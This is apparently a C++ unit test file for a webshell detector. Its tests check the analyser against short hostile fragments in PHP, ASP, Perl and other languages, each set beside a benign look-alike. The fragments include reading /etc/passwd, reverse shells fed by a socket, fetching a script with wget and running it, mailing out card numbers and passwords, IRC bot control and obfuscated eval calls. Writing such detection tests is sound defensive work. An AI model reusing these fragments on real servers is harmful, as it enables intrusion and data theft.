// What calls tell by themselves, form fields as variables, rounds of loops with branches.
// Look-alikes by recipe, each beside what an honest script does.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "agent/match/webshell/form_fields.h"
#include "tests/unit/match/webshell_recipe.h"

namespace konseki::webshell {
namespace {

using testing::AllOf;
using testing::Contains;
using testing::Ge;
using testing::Lt;
using testing::Not;

TEST(WebshellDeeds, AccountsOfTheSystem) {
  EXPECT_THAT(seen_in("$f = fopen('/etc/pass" + std::string("wd', 'r'); echo fread($f, 9);")),
              Contains("code.account_list"));
  EXPECT_THAT(seen_in("$f = fopen('/etc/os-release', 'r'); echo fwrite($f, 'x');"),
              Not(Contains("code.account_list")));
  EXPECT_THAT(seen_in("$o = new COM('IIS://localhost/w3svc'); foreach ($o as $s) echo $s->Name;"),
              Contains("code.account_list"));
}

TEST(WebshellDeeds, LinksIntoOtherSites) {
  EXPECT_THAT(seen_in("symlink(" + kPost + "['t'], 'a.txt');"), Contains("code.link_out"));
  EXPECT_THAT(seen_in("symlink('current', 'build'); file_put_contents('log', 'done');"),
              Not(Contains("code.link_out")));
}

TEST(WebshellDeeds, APeersTextAsCommandOrAsParameter) {
  const std::string peer = "$s = fsockopen('192.0.2.1', 80); $t = fgets($s, 99); ";
  EXPECT_THAT(seen_in(peer + "sys" + "tem($t);"), Contains("code.reverse"));
  EXPECT_THAT(seen_in(peer + "sys" + "tem('curl -H \"' . $t . '\" http://192.0.2.2/');"),
              Not(Contains("code.reverse")));
}

TEST(WebshellDeeds, FormsThatAskForPicturesAreNoMeansToBringProgramsIn) {
  const std::string name = "$n = $_FI" + std::string("LES['f']['name']; ");
  const std::string store = "move_uploaded_file($_FI" + std::string("LES['f']['tmp_name'], $n);");
  const std::string ending = name + "$e = strtolower(pathinfo($n, PATHINFO_EXTENSION)); ";
  EXPECT_GE(score_of(name + store), 70);
  for (const std::string check :
       {"if (in_array($e, array('jpg', 'png'))) ", "if ($e != 'jpg' && $e != 'gif') exit; ",
        "if (!preg_match('/^(jpe?g|png)$/', $e)) die(); "}) {
    EXPECT_LT(score_of(ending + check + store), 30) << check;
  }
  EXPECT_LT(score_of(name + "if (getimagesize($_FI" + "LES['f']['tmp_name'])) " + store), 30);
  // A list that lets scripts in, a comparison of something else, and one that comes too late.
  EXPECT_GE(score_of(ending + "if (in_array($e, array('jpg', 'php'))) " + store), 70);
  EXPECT_GE(score_of(ending + "if ($x == 'jpg') " + store), 70);
  EXPECT_GE(score_of(ending + store + " if ($e == 'jpg') echo 'picture';"), 70);
  const std::string page = "<%@ Page Language=\"C#\" %><script runat=\"server\">void Save() { ";
  const std::string save =
      "f.SaveAs(Server.MapPath(\"a/\") + f.FileName); }</script>"
      "<asp:FileUpload id=\"f\" runat=\"server\"/>";
  EXPECT_GE(analyse(page + save, "a.aspx").score(), 70);
  EXPECT_LT(analyse(page + "if (f.FileName.EndsWith(\".jpg\")) " + save, "a.aspx").score(), 30);
  // It excuses nothing but the upload.
  EXPECT_GE(score_of(ending + "if ($e == 'jpg') " + store + kEval + "(" + kPost + "['c']);"), 70);
}

TEST(WebshellDeeds, FormsThatMailAreNoMailings) {
  const std::string to = "$t = " + kPost + "['to']; ";
  const std::string owner = "mb_send_mail('info@example.com', 'form', " + kPost + "['text']); ";
  // The owner gets what was written, whoever wrote it a copy.
  EXPECT_LT(score_of(to + owner + "if (" + kPost + "['copy']) mb_send_mail($t, 'form', 'x');"), 30);
  EXPECT_THAT(score_of(to + "if ($t) mail($t, 'a', 'b');"), AllOf(Ge(30), Lt(70)));
  EXPECT_GE(score_of("foreach (explode(',', " + kPost + "['to']) as $t) mail($t, 'a', 'b');"), 70);
}

TEST(WebshellDeeds, ProgramsThatStandInAScriptAreNoCommandsOfARequest) {
  const auto perl = [](const std::string& code) {
    return analyse("#!/usr/bin/perl\nuse CGI; my $q = CGI->new; " + code, "form.cgi").score();
  };
  const std::string text = "print $m $q->param('text');";
  EXPECT_LT(perl("open(my $m, '|-', '/usr/sbin/sendmail -t'); " + text), 30);
  EXPECT_LT(perl("open($m, '|/usr/sbin/sendmail -t'); " + text), 30);
  EXPECT_GE(perl("open($m, \"cd $d; $c|\"); " + text), 70);
}

TEST(WebshellDeeds, ConnectionsAsStandardInput) {
  const auto perl = [](const std::string& code) {
    return seen_in_page(
        "#!/usr/bin/perl\nuse Socket; socket(S, PF_INET, SOCK_STREAM, 6); "
        "connect(S, sockaddr_in(80, inet_aton('192.0.2.1'))); " +
            code,
        "a.pl");
  };
  EXPECT_THAT(perl("open(STDIN, \"<&S\"); open(STDOUT, \">&S\");"), Contains("code.reverse"));
  EXPECT_THAT(perl("open(STDIN, \"<&SAVEIN\"); open(LOG, \">&STDERR\");"),
              Not(Contains("code.reverse")));
}

TEST(WebshellDeeds, FilesThatARequestChanges) {
  EXPECT_GE(score_of("chmod(stripslashes(" + kPost + "['p']), 0777);"), 30);
  EXPECT_LT(score_of("unlink('cache/' . md5(" + kPost + "['p']));"), 30);
}

TEST(WebshellDeeds, RequestsPassedOn) {
  EXPECT_THAT(seen_in("$c = curl_init('http://192.0.2.1/'); curl_setopt($c, CURLOPT_POSTFIELDS, " +
                      kPost + "); echo curl_exec($c);"),
              Contains("code.forward_input"));
  EXPECT_THAT(seen_in("$c = curl_init(" + kPost + "['u']); echo curl_exec($c);"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in("$c = curl_init('http://192.0.2.1/?q=' . " + kPost + "['u']);"),
              Not(Contains("code.connect_input")));
}

TEST(WebshellDeeds, TablesUnderAnAccountOfItsOwn) {
  const std::string tables =
      "$q = mysql_query('show ta" + std::string(
                                        "bles'); while ($t = "
                                        "mysql_fetch_array($q)) echo $t[0];");
  EXPECT_THAT(seen_in("mysql_connect('db', 'root', 'secret'); " + tables), Contains("code.dump"));
  EXPECT_THAT(seen_in("include 'settings.php'; db_open($settings); " + tables),
              Not(Contains("code.dump")));
}

TEST(WebshellDeeds, MailToAList) {
  EXPECT_GE(score_of("foreach (explode(\"\\n\", " + kPost + "['to']) as $a) mail($a, " + kPost +
                     "['s'], " + kPost + "['m']);"),
            70);
  EXPECT_LT(score_of("mail('office@example.org', 'Form', " + kPost + "['text']);"), 30);
}

TEST(WebshellDeeds, SecretsOfPeople) {
  const std::string text = "$m = " + kPost + "['cardnumber'] . " + kPost + "['cvv'];";
  EXPECT_THAT(seen_in(text + " mail('a@example.org', 'x', $m);"), Contains("code.harvest"));
  EXPECT_THAT(seen_in("$m = " + kPost + "['name'] . " + kPost +
                      "['street']; mail('a@example.org', "
                      "'x', $m);"),
              Not(Contains("code.harvest")));
}

TEST(WebshellDeeds, ChatThatSteersBots) {
  EXPECT_THAT(seen_in("$s = fsockopen('192.0.2.1', 6667); fputs($s, \"NI" +
                      std::string("CK bot\\r\\n\");")),
              Contains("code.bot"));
  EXPECT_THAT(seen_in("$s = fsockopen('192.0.2.1', 25); fputs($s, \"HELO a\\r\\n\");"),
              Not(Contains("code.bot")));
}

TEST(WebshellDeeds, SomebodysSession) {
  EXPECT_THAT(seen_in("require 'wp-blog-header.php'; wp_set_auth_cookie(1);"),
              Contains("code.log_in"));
  EXPECT_THAT(seen_in("function sign_in($user) { wp_set_auth_cookie($user->id); }"),
              Not(Contains("code.log_in")));
}

TEST(WebshellDeeds, SettingsThatMakeFilesRun) {
  EXPECT_THAT(seen_in("$h = fopen('.htaccess', 'w'); fwrite($h, \"Options +Exec" +
                      std::string("CGI\\n\");")),
              Contains("code.write_script"));
  EXPECT_THAT(seen_in("$h = fopen('.htaccess', 'w'); fwrite($h, \"Deny from all\\n\");"),
              Not(Contains("code.write_script")));
}

TEST(WebshellDeeds, PasswordBuiltIn) {
  const std::string digest = "5f4dcc3b5aa765d61d8327deb882cf99";
  EXPECT_GE(score_of("if (md5(" + kPost + "['p']) == '" + digest + "') { show(); }"), 30);
  EXPECT_LT(score_of("if (md5(" + kPost + "['p']) == $row['p']) { show(); }"), 30);
}

// A script whose own texts let a style sheet call what runs code.
TEST(WebshellDeeds, StyleSheetsThatCall) {
  const std::string sheet = "$x = '<xsl:value-of select=\"z:function(\\'sys" +
                            std::string("tem\\',string(.))\"/>'; $p = new XSLTProcessor(); ") +
                            "$p->importStylesheet(load($x)); echo " + kPost + "['a'];";
  EXPECT_GE(score_of(sheet + " $p->registerPHPFunctions();"), 70);
  EXPECT_THAT(seen_in(sheet), Not(Contains("code.style_calls")));
}

TEST(WebshellDeeds, HandlersByName) {
  EXPECT_THAT(seen_in("$f = 'ass' . 'ert'; session_set_save_handler('open', 'close', $f, 'write'); "
                      "session_id(" +
                      kPost + "['x']);"),
              Contains("code.hidden_name"));
  EXPECT_THAT(seen_in("session_set_save_handler('open', 'close', 'read', 'write'); session_id(" +
                      kPost + "['x']);"),
              Not(Contains("code.hidden_name")));
}

TEST(WebshellDeeds, SearchEnginesAreToldApart) {
  const std::string fetch = "echo file_get_contents('http://192.0.2.1/page');";
  EXPECT_THAT(seen_in("if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) " + fetch),
              Contains("code.cloak"));
  EXPECT_THAT(seen_in("if (isset($_SERVER['HTTP_USER_AGENT'])) " + fetch),
              Not(Contains("code.cloak")));
}

TEST(WebshellDeeds, PortsOfItsOwn) {
  EXPECT_THAT(seen_in("$s = socket_create(2, 1, 6); socket_bind($s, '0.0.0.0', 4001); "
                      "socket_listen($s); echo shell_exec('uptime');"),
              Contains("code.listens"));
  EXPECT_THAT(seen_in("$s = fsockopen('127.0.0.1', 11211); fwrite($s, \"stats\");"),
              Not(Contains("code.listens")));
}

// What a request sends is written under a name of the script's own and then run.
TEST(WebshellDeeds, WrittenThenRun) {
  const std::string write = "file_put_contents('README', " + kPost + "['t']); ";
  EXPECT_THAT(seen_in(write + "require 'README';"), Contains("code.run_input"));
  EXPECT_THAT(seen_in(write + "require 'lib.php';"), Not(Contains("code.run_input")));
  EXPECT_THAT(seen_in("$h = fopen('notes', 'w'); fwrite($h, " + kPost + "['t']); include 'notes';"),
              Contains("code.run_input"));
}

TEST(WebshellDeeds, ListsAndReadsAnything) {
  const std::string list = "$d = " + kPost + "['d']; print_r(scandir($d)); ";
  EXPECT_GE(score_of(list + "readfile($d);"), 70);
  EXPECT_LT(score_of(list), 70);
}

// `or` binds weaker than an assignment.
TEST(WebshellDeeds, ObjectOrNothing) {
  const std::string com = "$p = new COM('WScript." + std::string("Shell')");
  EXPECT_THAT(seen_in(com + " or die('no'); $p->exec('cmd /c ' . " + kPost + "['c']);"),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in(com + " or die('no'); $p->exec('cmd /c dir');"),
              Not(Contains("code.command_input")));
}

TEST(WebshellDeeds, ElementsWithTheirKeys) {
  const std::string own = "function f($v, $k) { $x = $k . $v; $x(" + kPost + "['x']); } ";
  EXPECT_THAT(seen_in(own + "$a = array('ass' => 'ert'); array_walk($a, 'f');"),
              Contains("code.hidden_name"));
  EXPECT_THAT(seen_in(own + "$a = array('my_' => 'own'); array_walk($a, 'f');"),
              Not(Contains("code.hidden_name")));
}

// create_function() makes a function of two texts; whoever calls it passes on what a request sends.
TEST(WebshellDeeds, FunctionsMadeOfTexts) {
  const std::string made = "create_fun" + std::string("ction('$a', 'return ass") + "ert($a[0]);')";
  EXPECT_THAT(seen_in("preg_replace_callback('/.+/', " + made + ", " + kPost + "['x']);"),
              Contains("code.run_input"));
  EXPECT_THAT(seen_in("$i = new CallbackFilterIterator(new ArrayIterator(array(" + kPost +
                      "['x'])), " + made + "); foreach ($i as $e) echo $e;"),
              Contains("code.run_input"));
  EXPECT_THAT(seen_in("$f = create_fun" + std::string("ction('$a', 'return strlen($a);'); usort(") +
                      kPost + "['x'], $f);"),
              Not(Contains("code.run_input")));
}

// fopen(c.php, w): names without quotes were texts once.
TEST(WebshellDeeds, ScriptsWrittenInOneLine) {
  EXPECT_GE(score_of("fputs(fopen(c.php,w),\"<?" + kEval + "(" + kPost + "[c]);?>\");"), 70);
  EXPECT_LT(score_of("fputs(fopen(c.txt,w),\"name: " + kPost + "[c]\");"), 30);
}

TEST(WebshellDeeds, NamesInsideTexts) {
  const std::string fetch = "$t = file_get_contents('https://192.0.2.1/t'); $p = getcwd(); ";
  EXPECT_THAT(seen_in(fetch + "$n = 'up.php'; $h = fopen(\"$p/$n\", 'w'); fwrite($h, $t);"),
              Contains("code.write_input"));
  EXPECT_THAT(seen_in(fetch + "$n = 'up.xml'; $h = fopen(\"$p/$n\", 'w'); fwrite($h, $t);"),
              Not(Contains("code.write_input")));
}

TEST(WebshellDeeds, PatternsThatNobodySets) {
  EXPECT_THAT(seen_in("@preg_fil" + std::string("ter($p, ") + kPost + "['t'], '');"),
              Contains("code.opaque_call"));
  EXPECT_THAT(
      seen_in("$p = '/a/'; echo preg_fil" + std::string("ter($p, ") + kPost + "['t'], '');"),
      Not(Contains("code.opaque_call")));
}

TEST(WebshellDeeds, SitesOfAllAccounts) {
  EXPECT_THAT(seen_in("foreach (scandir('/home') as $u) echo $u;"), Contains("code.account_list"));
  EXPECT_THAT(seen_in("foreach (scandir('/home/site/uploads') as $u) echo $u;"),
              Not(Contains("code.account_list")));
}

TEST(WebshellDeeds, PagesOfAFixedHostByArgument) {
  const std::string get = "function get($u) { return file_get_contents($u); } ";
  const std::string agent = "if (strpos($_SERVER['HTTP_USER_AGENT'], 'google')) ";
  EXPECT_THAT(seen_in(get + agent + "echo get('http://192.0.2.1/p?' . $_SERVER['HTTP_HOST']);"),
              Contains("code.cloak"));
  EXPECT_THAT(seen_in(get + agent + "echo get($base . $_SERVER['HTTP_HOST']);"),
              Not(Contains("code.cloak")));
}

TEST(WebshellDeeds, PasswordsThatAreMailed) {
  const std::string text = "$m = \"Password: \" . " + kPost + "['pass'] . \"\\n\"; ";
  EXPECT_THAT(seen_in(text + "$m .= getenv('REMOTE_ADDR'); mail('a@example.org', 'x', $m);"),
              Contains("code.harvest"));
  EXPECT_THAT(seen_in("$m = \"Name: \" . " + kPost +
                      "['name'] . getenv('REMOTE_ADDR'); "
                      "mail('a@example.org', 'x', $m);"),
              Not(Contains("code.harvest")));
}

// The whole script asks a fixed host for what a visitor asked of it.
TEST(WebshellDeeds, PagesOfAnotherHost) {
  EXPECT_GE(score_of("echo file_get_contents('http://192.0.2.1/?u=' . $_SERVER['REQUEST_URI']);"),
            30);
  EXPECT_LT(score_of("echo file_get_contents('http://192.0.2.1/news.xml');"), 30);
}

TEST(WebshellDeeds, NothingButAnEncodedText) {
  const auto score = [](std::size_t markup) {
    std::string hidden;
    for (int i = 0; i < 1200; ++i) hidden += static_cast<char>('a' + i * 7 % 26);
    return score_of("echo gzuncompress(base64_decode('" + hidden + "')); ?" + ">" +
                    std::string(markup, ' '));
  };
  EXPECT_GE(score(0), 30);
  EXPECT_LT(score(4000), 30);
}

TEST(WebshellDeeds, TellsItsOwnAddress) {
  const std::string own = "'http://' . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF']";
  EXPECT_THAT(seen_in("function g($u) { return file_get_contents($u); } $h = " + own +
                      "; echo g('http://192.0.2.1/index.php?host=' . $h);"),
              Contains("code.calls_home"));
  EXPECT_THAT(
      seen_in("mail('a@example.org', 'x', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);"),
      Contains("code.calls_home"));
  EXPECT_THAT(seen_in("echo '<a href=\"' . " + own + " . '\">here</a>'; echo $_GET['a'];"),
              Not(Contains("code.calls_home")));
}

TEST(WebshellDeeds, DeletesItself) {
  EXPECT_THAT(seen_in("touch('a.php', time() - 99); unlink(__FILE__);"),
              Contains("code.deletes_itself"));
  EXPECT_THAT(seen_in("unlink('cache/' . $name);"), Not(Contains("code.deletes_itself")));
}

// A command of constants that fetches a program and runs it.
TEST(WebshellDeeds, ProgramsThatAreFetched) {
  const std::string start = "$u = 'http://192.0.2.1/'; ex" + std::string("ec('cd /tmp; wg");
  EXPECT_THAT(seen_in(start + "et ' . $u . 'a.txt; perl a.txt');"), Contains("code.run_remote"));
  EXPECT_THAT(seen_in(start + "et ' . $u . 'a.txt; cat a.txt');"),
              Not(Contains("code.run_remote")));
}

TEST(WebshellDeeds, CodeBetweenComments) {
  std::string hidden;
  for (int i = 0; i < 60; ++i) hidden += static_cast<char>('a' + i * 7 % 26);
  const std::string decoder =
      "function d($t) { $o = ''; foreach (str_split($t) as $c) $o .= chr("
      "strpos($table, $c) ^ 7); return $o; } ";
  EXPECT_THAT(seen_in(decoder + kEval + "('/*x*/' . d('" + hidden + "') . '/*y*/');"),
              Contains("code.run_opaque"));
}

// An icon that is included; a name in octal escapes.
TEST(WebshellDeeds, IncludedIcons) {
  EXPECT_THAT(seen_in("@include \"\\057srv/\\167ww/.a1\\142.ic\\157\";"),
              Contains("code.include_strange"));
  EXPECT_THAT(seen_in("include \"\\057srv/\\167ww/a1.\\160hp\";"),
              Contains("code.include_strange"));
  EXPECT_THAT(seen_in("include \"/srv/www/a1.php\";"), Not(Contains("code.include_strange")));
}

TEST(WebshellDeeds, NamesBetweenBlanks) {
  EXPECT_THAT(seen_in("$f = sanitize_key('a s s' . ' e r t'); $f(" + kPost + "['x']);"),
              Contains("code.hidden_name"));
  EXPECT_THAT(seen_in("$f = sanitize_key('my_own'); $f(" + kPost + "['x']);"),
              Not(Contains("code.hidden_name")));
}

// A script that names PHP as its program gets its arguments from whoever starts it.
TEST(WebshellDeeds, ArgumentsOfTheCommandLine) {
  const std::string code = "include $_SERVER['argv'][1];";
  const auto seen = [](const std::string& content) {
    std::vector<std::string> names;
    for (const Witness& witness : analyse(content, "a.php").witnesses)
      names.push_back(witness.name);
    return names;
  };
  EXPECT_THAT(seen(kPhp + code), Contains("code.include_input"));
  EXPECT_THAT(seen("#!/usr/bin/env php\n" + kPhp + code), Not(Contains("code.include_input")));
}

TEST(WebshellPages, ColdFusion) {
  EXPECT_THAT(seen_in_page("<CFSWITCH EXPRESSION=#Form.a#><CFSCRIPT>x=1;</CFSCRIPT><CFCASE "
                           "VALUE=\"B\"><CFFILE ACTION=\"Read\" FILE=\"#Form.path#\" "
                           "VARIABLE=\"o\"></CFCASE></CFSWITCH>",
                           "a.cfm"),
              Contains("code.read_input"));
  EXPECT_THAT(
      seen_in_page("<cffile action=\"read\" file=\"#expandPath('a.txt')#\" variable=o>", "a.cfm"),
      Not(Contains("code.read_input")));
  EXPECT_THAT(
      seen_in_page("<cfquery name=q datasource=d>#preserveSingleQuotes(form.sql)#</cfquery>",
                   "a.cfm"),
      Contains("code.query_input"));
  EXPECT_THAT(
      seen_in_page("<cfquery name=q datasource=d>select a from b where c = #form.c#</cfquery>",
                   "a.cfm"),
      Not(Contains("code.query_input")));
}

TEST(WebshellPages, DatabasesThatARequestNames) {
  const std::string open =
      std::string("<") + "% Set c = Server.CreateObject(\"ADODB.Connection\") : ";
  EXPECT_THAT(seen_in_page(open + "c.Open Request(\"s\") %" + ">", "a.asp"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in_page(open + "c.Open Application(\"s\") %" + ">", "a.asp"),
              Not(Contains("code.connect_input")));
}

TEST(WebshellPages, ObjectsOfTags) {
  const std::string tag =
      "<object runat=server id=sh scope=page classid=\"clsid:72C24DD5-D70A-438B-"
      "8A42-98424B88AFB8\"></object>";
  const std::string code = std::string("<") + "% x = sh.Exec(Request(\"c\")) %" + ">";
  EXPECT_THAT(seen_in_page(tag + code, "a.asp"), Contains("code.command_input"));
}

// JScript .NET names the interface beside the method.
TEST(WebshellPages, MethodsOfInterfaces) {
  EXPECT_THAT(seen_in_page(std::string("<") + "%@ WebHandler Language=\"JScript\" Class=\"H\" %" +
                               ">\nimport System.Web;\nclass H implements IHttpHandler {\nfunction "
                               "IHttpHandler.ProcessRequest(c : HttpContext) {\n" +
                               kEval + "(c.Request[\"a\"]);\n} }",
                           "a.ashx"),
              Contains("code.run_input"));
}

// A variable under the name of the page's own field is what old PHP filled in.
TEST(WebshellDeeds, FieldsBecomeVariables) {
  const std::string form = " ?" + std::string("><form><input type=text name=\"cmd\"></form>");
  EXPECT_THAT(seen_in("if ($cmd) passth" + std::string("ru($cmd);") + form),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("$cmd = 'uptime'; passth" + std::string("ru($cmd);") + form),
              Not(Contains("code.command_input")));
}

TEST(FormFields, NamesOfFieldsAndLinks) {
  EXPECT_THAT(form_fields("<input type=x name='b'> <a href=\"?a=1&amp;c=2&d=3\"> <TEXTAREA NAME = "
                          "e> <meta name=\"f\"> <input data-name=g"),
              testing::ElementsAre("a", "b", "d", "e"));
  EXPECT_THAT(form_fields("<input name=\"> <input name"), testing::IsEmpty());
  EXPECT_THAT(form_fields(""), testing::IsEmpty());
}

// Own decoders branch in their loops.
TEST(WebshellRounds, BranchesOfKnownConditions) {
  std::string hidden;
  for (const char c : kEval + "(" + kPost + "['k']);") {
    hidden += c == '(' ? '~' : static_cast<char>(c + 1);
  }
  const std::string loop =
      "$o = ''; for ($i = 0; $i < 99; $i++) { if ($i >= strlen($s)) break; if ($s[$i] == '~' && "
      "$i > 0) { $o .= '('; continue; } else { $o .= chr(ord($s[$i]) - 1); } } ";
  std::string escaped;
  for (const char c : hidden)
    escaped += c == '\'' || c == '\\' ? std::string("\\") + c : std::string(1, c);
  EXPECT_THAT(seen_in("$s = '" + escaped + "'; " + loop + kEval + "($o);"),
              Contains("code.run_input"));
}

TEST(WebshellRounds, TextsThatAreSetAnew) {
  const std::string letters = "$a = array('a','s','s','e','r','t'); $f = ''; ";
  const std::string call = " $f(" + kPost + "['c']);";
  EXPECT_THAT(seen_in(letters + "for ($i = 0; $i < count($a); $i++) { $f = $f . $a[$i]; }" + call),
              Contains("code.hidden_name"));
  EXPECT_THAT(seen_in(letters + "foreach ($a as $x) { $f = $f . $x; }" + call),
              Contains("code.hidden_name"));
}

TEST(WebshellRounds, TooLongToCompute) {
  std::string constant;
  for (int i = 0; i < 120'000; ++i) constant += static_cast<char>('a' + i % 23);
  EXPECT_THAT(seen_in("function d($t) { $o = ''; for ($i = 0; $i < strlen($t); $i++) $o .= "
                      "chr(ord($t[$i]) ^ 3); return $o; } " +
                      kEval + "(d('" + constant + "'));"),
              Contains("code.run_opaque"));
}

// The last extension hides the one that the server goes by; a page's own texts may hold PHP's tag.
TEST(WebshellPages, LanguageOfAPage) {
  const std::string page =
      "<% x = \"<" + std::string("?php echo 1; ?\" & \">\"\n") + kEval + "(request(\"a\")) %>";
  for (const char* name : {"a.asp", "a.asp.txt", "a.txt"}) {
    const Judgement judgement = analyse(page, name);
    ASSERT_FALSE(judgement.languages.empty()) << name;
    EXPECT_EQ(judgement.languages.front(), ScriptLanguage::kVbScript) << name;
    EXPECT_GE(judgement.score(), 70) << name;
  }
  EXPECT_TRUE(analyse(kPhp + "echo $_GET['a'];", "a.php.txt").named_script);
  EXPECT_FALSE(analyse(kPhp + "echo $_GET['a'];", "php.txt").named_script);
  // Tags in a Perl script are texts of it.
  EXPECT_THAT(
      seen_in_page("print '<" + std::string("?php ") + kEval + "(" + kPost + "[1]);';", "a.pl"),
      Not(Contains("code.run_input")));
}

TEST(WebshellPages, LinesThatWereJoined) {
  EXPECT_GE(analyse("<%On Error Resume Next " + kEval + "(request(\"a\"))%>", "a.asp").score(), 70);
}

TEST(WebshellPages, AccountsOfTheFileService) {
  const std::string send = "<% u = request(\"u\"): s = \"SITE MAINT" + std::string("ENANCE\"");
  EXPECT_THAT(seen_in_page(send + " %>", "a.asp"), Contains("code.account_input"));
  EXPECT_THAT(seen_in_page("<% u = request(\"u\"): s = \"SITE HELP\" %>", "a.asp"),
              Not(Contains("code.account_input")));
}

TEST(WebshellPages, ServersThatListen) {
  const std::string page = "<%@ Page Language=\"C#\" %><% var s = new Socket(AddressFamily.X, ";
  EXPECT_THAT(
      seen_in_page(page + "SocketType.R" + std::string("aw, ProtocolType.IP); %>"), "a.aspx"),
      Contains("code.listens"));
  EXPECT_THAT(seen_in_page(page + "SocketType.Stream, ProtocolType.Tcp); %>", "a.aspx"),
              Not(Contains("code.listens")));
}

TEST(WebshellPages, SettingsOfTheServer) {
  EXPECT_THAT(seen_in_page("<%@ Page Language=\"C#\" %><% var e = new Entry(\"II" +
                               std::string("S://localhost/W3SVC\"); %>"),
                           "a.aspx"),
              Contains("code.account_list"));
  EXPECT_THAT(seen_in_page("<%@ Page Language=\"C#\" %><% var e = \"IIS is here\"; %>", "a.aspx"),
              Not(Contains("code.account_list")));
}

TEST(WebshellPages, StatementsBehindBlanks) {
  EXPECT_THAT(seen_in_page("<cfquery name=q datasource=d>\n  #form.sql#\n</cfquery>", "a.cfm"),
              Contains("code.query_input"));
}

TEST(WebshellPages, OneCommandAndNothingElse) {
  const std::string start =
      "<%@ Page Language=\"C#\" %><% Process.St" + std::string("art(\"a.exe\"); ");
  EXPECT_GE(analyse(start + "%>", "a.aspx").score(), 30);
  EXPECT_LT(analyse(start + "%>" + std::string(5000, 'x'), "a.aspx").score(), 30);
}

// Uuencoded Perl holds "<%" now and then; its first line tells what it is.
TEST(WebshellPages, PerlWithSignsOfPages) {
  const std::string body = "{_M<%EVAL<%REQUEST('=%>\n_};";
  for (const std::string& code : {"eval unpack u=>q" + body, "#!/usr/bin/perl\nprint q" + body}) {
    const Judgement judgement = analyse(code, "a.bin");
    ASSERT_FALSE(judgement.languages.empty()) << code;
    EXPECT_EQ(judgement.languages.front(), ScriptLanguage::kPerl) << code;
  }
}

TEST(WebshellPages, ChatsOfPerl) {
  const std::string chat = "#!/usr/bin/perl\nprint $s \"NI" +
                           std::string("CK a\\r\\n\"; print $s ") + "\"PRIV" +
                           std::string("MSG #a :done\\r\\n\"; ");
  EXPECT_THAT(seen_in_page(chat + "sys" + std::string("tem($order);"), "a.pl"),
              Contains("code.bot"));
  EXPECT_THAT(seen_in_page(chat, "a.pl"), Not(Contains("code.bot")));
}

// Programs of the command line read their input and run commands; a page is asked by a request.
TEST(WebshellPages, ProgramsThatReadTheirInput) {
  const std::string run = "sys" + std::string("tem($order);");
  EXPECT_THAT(seen_in_page("#!/usr/bin/perl\nmy $a = <STDIN>; " + run, "a.pl"),
              Not(Contains("code.page")));
  EXPECT_THAT(
      seen_in_page("#!/usr/bin/perl\nread(STDIN, $b, $ENV{'CONTENT_LENGTH'}); " + run, "a.pl"),
      Contains("code.page"));
  const std::string python = "#!/usr/bin/env python\nimport os, io, cgi\n";
  const std::string call = "os.sys" + std::string("tem(order)\n");
  EXPECT_THAT(seen_in_page(python + "s = io.StringIO()\nprint(s.getvalue())\n" + call, "a.py"),
              Not(Contains("code.page")));
  EXPECT_THAT(
      seen_in_page(python + "f = cgi.FieldStorage()\nprint(f.getvalue('a'))\n" + call, "a.py"),
      Contains("code.page"));
}

}  // namespace
}  // namespace konseki::webshell
